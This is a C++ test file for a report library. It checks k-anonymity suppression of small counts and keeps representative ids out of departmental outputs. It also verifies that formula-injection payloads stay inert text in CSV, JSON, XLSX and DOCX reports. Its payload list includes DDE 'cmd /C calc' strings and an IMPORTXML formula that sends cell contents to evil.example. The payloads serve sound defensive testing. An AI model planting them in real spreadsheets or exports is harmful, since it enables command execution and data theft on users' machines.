// Anonymity as a property (spec section 5) and formula injection (section 6),
// over random cycles, through every report writer that is built (csv, json, xlsx).
//
//  - AnonymousView over thousands of random cycles: no shown breakdown cell or
//    shown total of 1 to k-1 answers, no line with a shown total and exactly one
//    suppressed cell (recoverable by subtraction), shown cells equal to the
//    counts recomputed here, opinions hidden below k visits.
//  - Full report files of a few dozen random cycles: no representative id and no
//    sector or respondent-group label (what a breakdown would be labelled by) in
//    any output meant for departments; the integrity sheet only when asked for.
//  - Formula payloads in every text field of a cycle: no <f> element in any part
//    of the workbook, no CSV cell that starts like a formula, JSON strings intact.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <zip.h>

#include <fstream>
#include <map>
#include <random>
#include <set>
#include <sstream>

#include "fixtures.hpp"
#include "libreview/anonymity.hpp"
#include "libreview/log.hpp"
#include "libreview/pipeline.hpp"
#include "libreview/testing.hpp"
#include "libreview/report.hpp"
#include "libreview/report_util.hpp"

namespace fs = std::filesystem;
using namespace review;
using namespace review::test;

namespace {

/// Every part of a zip package by name.
std::map<std::string, std::string> parts_of(const fs::path& file) {
  std::map<std::string, std::string> out;
  int err = 0;
  zip_t* z = zip_open(file.c_str(), ZIP_RDONLY, &err);
  if (z == nullptr) throw std::runtime_error("not a zip: " + file.string());
  const zip_int64_t n = zip_get_num_entries(z, 0);
  for (zip_int64_t i = 0; i < n; ++i) {
    zip_stat_t st;
    zip_stat_index(z, static_cast<zip_uint64_t>(i), 0, &st);
    std::string bytes(static_cast<std::size_t>(st.size), '\0');
    zip_file_t* f = zip_fopen_index(z, static_cast<zip_uint64_t>(i), 0);
    zip_fread(f, bytes.data(), bytes.size());
    zip_fclose(f);
    out[st.name] = std::move(bytes);
  }
  zip_discard(z);
  return out;
}

/// The text of every file written (every part of a zip package), by file name.
std::map<std::string, std::string> outputs(const std::vector<fs::path>& files) {
  std::map<std::string, std::string> out;
  for (const auto& f : files) {
    if (f.extension() == ".xlsx" || f.extension() == ".docx") {
      for (auto& [name, bytes] : parts_of(f)) out[f.filename().string() + "!" + name] = std::move(bytes);
    } else {
      out[f.filename().string()] = slurp(f);
    }
  }
  return out;
}

/// RFC 4180 cells of a CSV text (UTF-8 BOM dropped).
std::vector<std::string> csv_cells(std::string_view t) {
  if (t.starts_with("\xEF\xBB\xBF")) t.remove_prefix(3);
  std::vector<std::string> cells;
  std::string cur;
  bool quoted = false, in_cell = false;
  for (std::size_t i = 0; i < t.size(); ++i) {
    const char c = t[i];
    if (quoted) {
      if (c == '"' && i + 1 < t.size() && t[i + 1] == '"') {
        cur += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        cur += c;
      }
    } else if (c == '"' && !in_cell) {
      quoted = in_cell = true;
    } else if (c == ',' || c == '\n') {
      cells.push_back(std::move(cur));
      cur.clear();
      in_cell = false;
    } else if (c == '\r' && i + 1 < t.size() && t[i + 1] == '\n') {
    } else {
      cur += c;
      in_cell = true;
    }
  }
  if (in_cell || !cur.empty()) cells.push_back(cur);
  return cells;
}

/// How a spreadsheet could take a cell for a formula (OWASP CSV injection, plus full-width signs).
bool starts_like_formula(std::string_view s) {
  for (std::string_view p : {"=", "+", "-", "@", "\t", "\r", "{=", "\xEF\xBC\x9D", "\xEF\xBC\x8B", "\xEF\xBC\x8D",
                             "\xEF\xBC\xA0"})
    if (s.starts_with(p)) return true;
  return false;
}

std::vector<std::shared_ptr<ReportWriter>> department_writers() {
  std::vector<std::shared_ptr<ReportWriter>> out;
  for (const char* id : {"csv", "json", "xlsx", "docx"})
    for (const auto& p : built_plugins().list())
      if (p.kind == PluginKind::report && p.id == id) out.push_back(built_plugins().report_writer(id));
  return out;
}

class Privacy : public ::testing::Test {
 protected:
  void SetUp() override {
    log::set_level(log::Level::warn);
    out_ = fs::temp_directory_path() / ("libreview-privacy-" + std::to_string(::getpid()));
    fs::remove_all(out_);
    fs::create_directories(out_);
  }
  void TearDown() override { fs::remove_all(out_); }
  fs::path out_;
};

/// A random cycle whose representative ids, sectors and respondent groups are
/// tokens that occur nowhere else, with survey opinions added.
Cycle marked_cycle(std::uint64_t seed, std::size_t reps, std::size_t responses) {
  review::testing::RandomCycleOptions o;
  o.seed = seed;
  o.departments = 16;
  o.exempt = 2;
  o.representatives = reps;
  o.responses = responses;
  Cycle c = review::testing::random_cycle(o);
  std::mt19937_64 rng(seed);
  for (std::size_t i = 0; i < c.representatives.size(); ++i) {
    c.representatives[i].id = fmt::format("REPQX{:05}", i + 1);
    c.representatives[i].sector = fmt::format("SECTQX{}", c.representatives[i].sector.size() % 7);
  }
  for (auto& g : c.respondent_groups) g = fmt::format("GRPQX{}", g.size());
  for (std::size_t d = 0; d < c.departments.size(); ++d)
    for (std::size_t v = rng() % 9; v > 0; --v)
      c.surveys.push_back(SurveyVisit{fmt::format("S{}-{}", d, v), c.representatives[rng() % reps].id,
                                      SiteKind::shop, "SITEQX", Date{2017, 5, 1}, c.departments[d].id,
                                      fmt::format("意见{}", rng() % 3)});
  c.build_index();
  return c;
}

void expect_no_recoverable_cell(const SuppressedBreakdown& s, int k, const std::string& what) {
  const auto& t = s.table;
  const std::size_t rows = t.row_labels.size(), cols = t.column_labels.size();
  for (std::size_t r = 0; r < rows; ++r)
    for (std::size_t c = 0; c < cols; ++c)
      if (auto v = s.shown(r, c)) {
        ASSERT_EQ(*v, t.count(r, c)) << what;
        ASSERT_FALSE(*v >= 1 && *v < k) << what << ": cell (" << r << "," << c << ") shows " << *v;
      }
  for (std::size_t r = 0; r < rows; ++r) {
    if (!t.show_row_totals || s.row_total_suppressed[r]) continue;
    ASSERT_FALSE(t.row_total(r) >= 1 && t.row_total(r) < k) << what << ": row total " << t.row_total(r);
    std::size_t hidden = 0;
    for (std::size_t c = 0; c < cols; ++c) hidden += s.is_suppressed(r, c) ? 1 : 0;
    ASSERT_NE(hidden, 1U) << what << ": row " << r << " has one suppressed cell and a shown total";
  }
  for (std::size_t c = 0; c < cols; ++c) {
    if (!t.show_column_totals || s.column_total_suppressed[c]) continue;
    ASSERT_FALSE(t.column_total(c) >= 1 && t.column_total(c) < k) << what;
    std::size_t hidden = 0;
    for (std::size_t r = 0; r < rows; ++r) hidden += s.is_suppressed(r, c) ? 1 : 0;
    ASSERT_NE(hidden, 1U) << what << ": column " << c << " has one suppressed cell and a shown total";
  }
}

/// The elements `<tag ...>...</tag>` (not nested in each other) of `xml`, in order.
std::vector<std::string_view> elements(std::string_view xml, std::string_view tag) {
  std::vector<std::string_view> out;
  const std::string open = "<" + std::string(tag), close = "</" + std::string(tag) + ">";
  std::size_t i = 0;
  while ((i = xml.find(open, i)) != std::string_view::npos) {
    const char after = i + open.size() < xml.size() ? xml[i + open.size()] : '\0';
    if (after != '>' && after != ' ' && after != '/') {
      i += open.size();
      continue;
    }
    const std::size_t gt = xml.find('>', i);
    if (gt == std::string_view::npos) break;
    if (xml[gt - 1] == '/') {  // an empty element
      out.push_back(xml.substr(i, gt + 1 - i));
      i = gt + 1;
      continue;
    }
    const std::size_t end = xml.find(close, gt);
    if (end == std::string_view::npos) break;
    out.push_back(xml.substr(i, end + close.size() - i));
    i = end + close.size();
  }
  return out;
}

/// The cells' texts of every table row of a WordprocessingML part.
std::vector<std::vector<std::string>> docx_rows(const std::string& xml) {
  std::vector<std::vector<std::string>> rows;
  for (auto tr : elements(xml, "w:tr")) {
    std::vector<std::string> cells;
    for (auto tc : elements(tr, "w:tc")) {
      std::string text;
      for (auto t : elements(tc, "w:t")) {
        const auto gt = t.find('>');
        if (t[gt - 1] != '/') text += std::string(t.substr(gt + 1, t.size() - gt - 1 - 6));
      }
      cells.push_back(text);
    }
    rows.push_back(std::move(cells));
  }
  return rows;
}

/// In rows labelled by a group or sector (label, counts..., total): no shown count of 1 to k-1,
/// and not exactly one hidden count beside a shown total. Returns the rows checked.
std::size_t check_docx_breakdowns(const std::string& xml, int k) {
  std::size_t checked = 0;
  for (const auto& row : docx_rows(xml)) {
    if (row.empty() || (row[0].find("GRPQX") == std::string::npos && row[0].find("SECTQX") == std::string::npos))
      continue;
    ++checked;
    std::size_t hidden = 0;
    for (std::size_t i = 1; i < row.size(); ++i) {
      const std::string& v = row[i];
      if (v == "—") {
        hidden += i + 1 < row.size() ? 1 : 0;
        continue;
      }
      const bool number = !v.empty() && v.find_first_not_of("0123456789") == std::string::npos;
      EXPECT_TRUE(number) << "unexpected breakdown cell '" << v << "'";
      if (number) {
        const long n = std::stol(v);
        EXPECT_FALSE(n >= 1 && n < k) << "a breakdown cell of " << n << " answers in row " << row[0];
      }
    }
    const bool total_shown = row.size() > 1 && row.back() != "—";
    EXPECT_FALSE(total_shown && hidden == 1) << "one hidden cell beside a shown total in row " << row[0];
  }
  return checked;
}

}  // namespace

TEST_F(Privacy, AnonymousViewOverThousandsOfRandomCycles) {
  std::size_t tables = 0, suppressed = 0;
  for (std::uint64_t seed = 1; seed <= 3000; ++seed) {
    // Few representatives and responses make small cells common.
    const Cycle c = marked_cycle(seed, 6 + seed % 30, 20 + seed % 150);
    const int k = 3 + static_cast<int>(seed % 5);  // k from 3 to 7, 5 the default
    const AnonymousView view(c, k);
    for (std::uint32_t d = 0; d < c.departments.size(); ++d) {
      const std::string what = fmt::format("seed {} k {} department {}", seed, k, c.departments[d].id);
      const auto b = view.ballots_by_sector(d);
      const auto q = view.questionnaires_by_group(d);
      expect_no_recoverable_cell(b, k, what + " ballots");
      expect_no_recoverable_cell(q, k, what + " questionnaires");
      if (HasFatalFailure()) return;
      tables += 2;
      suppressed += b.suppressed_count() + q.suppressed_count();
      // The table holds every ballot of the department (nothing dropped or invented).
      std::int64_t ballots = 0, in_table = 0;
      for (std::size_t i = 0; i < c.ballots.size(); ++i) ballots += c.ballots.department[i] == d ? 1 : 0;
      for (std::size_t r = 0; r < b.table.row_labels.size(); ++r) in_table += b.table.row_total(r);
      ASSERT_EQ(ballots, in_table) << what;
      const auto opinions = view.opinions(d);
      if (view.opinion_count(d) < k) {
        ASSERT_TRUE(opinions.empty()) << what;
      }
    }
  }
  EXPECT_GT(suppressed, tables / 4) << "the random cycles should exercise suppression";
  std::printf("[ property ] 3000 cycles, %zu breakdown tables, %zu suppressed cells\n", tables, suppressed);
}

TEST_F(Privacy, ReportFilesNeverNameARepresentative) {
  const auto writers = department_writers();
  ASSERT_GE(writers.size(), 3U) << "csv, json and xlsx writers must be built";
  const auto profile_default = profile("default");
  std::size_t straight_lining = 0, breakdown_rows = 0;
  for (std::uint64_t seed = 1; seed <= 30; ++seed) {
    const Cycle c = marked_cycle(seed, 30 + seed, 200);
    const Results results = score_cycle(c, review::testing::random_history(c, seed), profile_default, built_plugins());
    for (const auto& f : results.flags) straight_lining += f.subject_kind == SubjectKind::representative ? 1 : 0;
    const fs::path dir = out_ / std::to_string(seed);
    fs::create_directories(dir);
    std::vector<fs::path> files;
    for (const auto& w : writers) {
      auto written = w->write(ReportInput{c, results, profile_default}, dir, ReportOptions{});
      files.insert(files.end(), written.begin(), written.end());
    }
    for (const auto& [name, text] : outputs(files)) {
      SCOPED_TRACE(fmt::format("seed {} {}", seed, name));
      ASSERT_EQ(text.find("REPQX"), std::string::npos) << "a representative id in an output for departments";
      if (name.find(".docx!") != std::string::npos) {
        // The letters show breakdowns (through AnonymousView): check every row labelled by a group or sector.
        breakdown_rows += check_docx_breakdowns(text, 5);
        if (HasFatalFailure()) return;
      } else {
        ASSERT_EQ(text.find("SECTQX"), std::string::npos) << "a breakdown by sector in an output for departments";
        ASSERT_EQ(text.find("GRPQX"), std::string::npos) << "a breakdown by group in an output for departments";
      }
      ASSERT_EQ(text.find("SITEQX"), std::string::npos) << "a survey site in an output for departments";
      ASSERT_EQ(text.find("诚信核查"), std::string::npos) << "the integrity sheet was not asked for";
    }
    // Nothing else in the folder (no temporary file left behind).
    std::size_t in_dir = 0;
    for (const auto& e : fs::recursive_directory_iterator(dir)) in_dir += e.is_regular_file() ? 1 : 0;
    EXPECT_EQ(in_dir, files.size());
  }
  EXPECT_GT(straight_lining, 0U) << "the random cycles should hold representative flags";
  std::printf("[ property ] 30 cycles' report files: %zu breakdown rows in letters checked\n", breakdown_rows);
}

TEST_F(Privacy, IntegritySheetOnlyWhenAskedFor) {
  const auto fx = make_report_fixture(false);
  auto xlsx = built_plugins().report_writer("xlsx");
  ReportOptions office;
  office.include_integrity = true;
  const auto plain = xlsx->write(ReportInput{fx.cycle, fx.results, fx.profile}, out_, ReportOptions{});
  const auto with = xlsx->write(ReportInput{fx.cycle, fx.results, fx.profile}, out_, office);
  ASSERT_EQ(plain.size(), 1U);
  ASSERT_EQ(with.size(), 1U);
  EXPECT_NE(plain[0], with[0]) << "the office's copy has a name of its own";
  const auto plain_parts = parts_of(plain[0]), with_parts = parts_of(with[0]);
  EXPECT_EQ(plain_parts.at("xl/workbook.xml").find("诚信核查"), std::string::npos);
  EXPECT_NE(with_parts.at("xl/workbook.xml").find("诚信核查"), std::string::npos);
  // The representative codes of the fixture's flags appear only in the office's copy.
  for (const auto& [name, text] : plain_parts) EXPECT_EQ(text.find(">R07<"), std::string::npos) << name;
  bool found = false;
  for (const auto& [name, text] : with_parts) found = found || text.find(">R07<") != std::string::npos;
  EXPECT_TRUE(found);
  // CSV and JSON carry no representative flag even when the integrity outputs are
  // asked for, but for the office's own 诚信核查_flags.csv, written only then.
  bool office_csv = false;
  for (const char* id : {"csv", "json"}) {
    const auto files = built_plugins().report_writer(id)->write(ReportInput{fx.cycle, fx.results, fx.profile},
                                                                 out_, office);
    for (const auto& [name, text] : outputs(files)) {
      if (name.find("诚信核查") != std::string::npos) {
        office_csv = true;
        EXPECT_NE(text.find("straight_lining,representative,R07"), std::string::npos) << name;
        continue;
      }
      EXPECT_EQ(text.find("R07"), std::string::npos) << name;
      EXPECT_EQ(text.find("straight_lining"), std::string::npos) << name;
    }
  }
  EXPECT_TRUE(office_csv);
  const auto csv_plain = built_plugins().report_writer("csv")->write(ReportInput{fx.cycle, fx.results, fx.profile},
                                                                      out_, ReportOptions{});
  for (const auto& f : csv_plain) EXPECT_EQ(f.filename().string().find("诚信核查"), std::string::npos);
}

namespace {

/// OWASP CSV-injection payloads, DDE strings, array formulas and full-width signs.
const std::vector<std::string> kPayloads = {
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/\",\"点此\")",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
};

/// An element whose local name is `f` (a SpreadsheetML formula).
bool has_formula_element(std::string_view xml) {
  for (std::size_t i = xml.find('<'); i != std::string_view::npos; i = xml.find('<', i + 1)) {
    std::size_t j = i + 1;
    while (j < xml.size() && xml[j] != ' ' && xml[j] != '>' && xml[j] != '/') ++j;
    std::string_view name = xml.substr(i + 1, j - i - 1);
    if (const auto colon = name.find(':'); colon != std::string_view::npos) name.remove_prefix(colon + 1);
    if (name == "f") return true;
  }
  return false;
}

bool holds_payload(std::string_view text);

/// `<c:f>'sheet'!$A$1:$B$2</c:f>` (or one cell), the sheet name free of typed payloads.
bool is_cell_reference(std::string_view element) {
  const auto gt = element.find('>');
  const auto lt = element.rfind('<');
  if (gt == std::string_view::npos || lt <= gt) return false;
  const std::string_view ref = element.substr(gt + 1, lt - gt - 1);
  const auto bang = ref.rfind('!');
  if (bang == std::string_view::npos || holds_payload(ref.substr(0, bang))) return false;
  const std::string_view cells = ref.substr(bang + 1);
  return !cells.empty() && cells.find_first_not_of("$ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789:") == std::string_view::npos;
}

bool holds_payload(std::string_view text) {
  for (std::string_view p : {"cmd", "DDE", "HYPERLINK", "IMPORTXML", "SUM("})
    if (text.find(p) != std::string_view::npos) return true;
  return false;
}

/// Puts a payload (cycling through the list) at the start of every text a person typed.
Cycle injected_cycle(std::uint64_t seed) {
  Cycle c = marked_cycle(seed, 40, 200);
  std::size_t i = 0;
  auto next = [&](const std::string& keep) { return kPayloads[i++ % kPayloads.size()] + keep; };
  std::map<std::string, std::string> dep_ids;
  for (auto& d : c.departments) {
    const std::string id = next("D" + d.id);
    dep_ids[d.id] = id;
    d.id = id;
    d.name = next(d.name);
    d.category = next(d.category);
    d.exempt_reason = next("");
    d.hotline = next("0000");
  }
  auto dep = [&](std::string& id) {
    if (auto it = dep_ids.find(id); it != dep_ids.end()) id = it->second;
  };
  c.info.name = next("县");
  for (auto& x : c.complaints) dep(x.department_id), x.id = next(x.id), x.category = next(x.category),
                               x.summary = next("摘要");
  for (auto& x : c.rectifications) dep(x.department_id), x.id = next(x.id), x.category = next(x.category),
                                   x.description = next(x.description), x.source_ref = next("ref");
  for (std::size_t k = 0; k < c.departments.size(); ++k) {
    c.commitments.push_back(Commitment{next("P"), c.departments[k].id, next("承诺"), Date{2017, 5, 1}, next("电视"),
                                       Date{2017, 11, 1}, next("进行中")});
    c.hearings.push_back(Hearing{next("H"), c.departments[k].id, Date{2017, 6, 1}, next("问题"), next("答复"), ""});
    c.activities.push_back(
        OutreachActivity{next("A"), c.departments[k].id, ActivityKind::village, next("村"), Date{2017, 4, 1},
                         next("走访")});
  }
  for (auto& s : c.surveys) dep(s.department_id), s.opinion = next(s.opinion), s.site = next(s.site);
  c.build_index();
  return c;
}

}  // namespace

TEST_F(Privacy, FormulaPayloadsInEveryTextFieldStayText) {
  const auto writers = department_writers();
  ASSERT_GE(writers.size(), 3U);
  const auto profile_default = profile("default");
  std::size_t csv_cells_checked = 0, neutralised = 0, xml_parts = 0;
  for (std::uint64_t seed = 1; seed <= 6; ++seed) {
    const Cycle c = injected_cycle(seed);
    const Results results = score_cycle(c, History{}, profile_default, built_plugins());
    for (bool integrity : {false, true}) {
      const fs::path dir = out_ / fmt::format("{}-{}", seed, integrity);
      fs::create_directories(dir);
      ReportOptions options;
      options.include_integrity = integrity;
      std::vector<fs::path> files;
      for (const auto& w : writers) {
        auto written = w->write(ReportInput{c, results, profile_default}, dir, options);
        files.insert(files.end(), written.begin(), written.end());
      }
      for (const auto& [name, text] : outputs(files)) {
        SCOPED_TRACE(name);
        if (name.ends_with(".csv")) {
          for (const auto& cell : csv_cells(text)) {
            ++csv_cells_checked;
            neutralised += cell.starts_with('\'') ? 1 : 0;
            ASSERT_FALSE(starts_like_formula(cell)) << "CSV cell starts like a formula: " << cell;
          }
        } else if (name.ends_with(".xml") || name.ends_with(".rels")) {
          ++xml_parts;
          if (name.find("!xl/charts/") != std::string::npos) {
            // A chart's series name their cells (`<c:f>'统计'!$A$4:$A$7</c:f>`): references, never typed text.
            for (auto f : elements(text, "c:f")) ASSERT_TRUE(is_cell_reference(f)) << f;
          } else {
            ASSERT_FALSE(has_formula_element(text)) << "a formula element in the workbook";
          }
          // Word fields are the documents' formulas (DDEAUTO, HYPERLINK): none may hold typed text.
          for (auto f : elements(text, "w:instrText")) ASSERT_FALSE(holds_payload(f)) << f;
          for (auto f : elements(text, "w:fldSimple")) ASSERT_FALSE(holds_payload(f.substr(0, f.find('>')))) << f;
        } else if (name.ends_with(".json")) {
          // JSON has no formulas; the typed text must arrive unchanged (escaped as JSON).
          ASSERT_NE(text.find("=cmd|' /C calc'!A0"), std::string::npos);
        }
      }
    }
  }
  EXPECT_GT(neutralised, 50U) << "the payloads should reach the CSV files";
  std::printf("[ injection ] %zu CSV cells (%zu neutralised), %zu XML parts, no formula\n", csv_cells_checked,
              neutralised, xml_parts);
}
